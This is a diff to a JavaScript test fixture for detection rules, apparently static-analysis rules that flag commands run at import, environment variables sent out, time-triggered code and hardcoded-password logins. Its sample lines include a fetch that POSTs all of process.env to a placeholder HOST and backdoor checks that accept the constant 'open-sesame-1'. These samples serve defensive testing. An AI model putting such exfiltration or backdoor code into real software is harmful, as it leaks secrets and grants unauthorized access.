@@ -11,6 +11,8 @@ require("child_process").execSync("id");
 // ruleid: askfirst.javascript.command-at-import
 require("child_process").exec("id");
 // ok: askfirst.javascript.command-at-import
+const run = os.hostname();
+// ok: askfirst.javascript.command-at-import
 function run() { require("child_process").execSync("id"); }
 // ok: askfirst.javascript.command-at-import
 const child = require("child_process");
@@ -18,9 +20,6 @@ const child = require("child_process");
 use(() => fetch(HOST, { method: "POST", body: JSON.stringify(process.env) }));
 // ruleid: askfirst.javascript.command-at-import, askfirst.javascript.environment-sent
 use(() => request.write(JSON.stringify(process.env)));
-// ruleid: askfirst.javascript.command-at-import
-// ok: askfirst.javascript.environment-sent
-use(() => fetch(HOST, { method: "POST", body: JSON.stringify({ port: process.env.PORT }) }));
 // ok: askfirst.javascript.environment-sent
 use(() => JSON.stringify(settings));
 // ruleid: askfirst.javascript.waits-for-a-date
@@ -37,5 +36,7 @@ use((password) => { if (password === "open-sesame-1") { return true; } });
 use((req, next) => { if (req.headers["x-door"] === "open-sesame-1") { return next(); } });
 // ok: askfirst.javascript.login-by-constant
 use((password, hash) => { if (verify(password, hash)) { return true; } });
+// ok: askfirst.javascript.login-by-constant
+use((kind) => { if (kind === 3) { return true; } });
 // ok: askfirst.javascript.login-by-constant
 use((req, next) => { if (req.headers["x-kind"] === "page") { return next(); } });
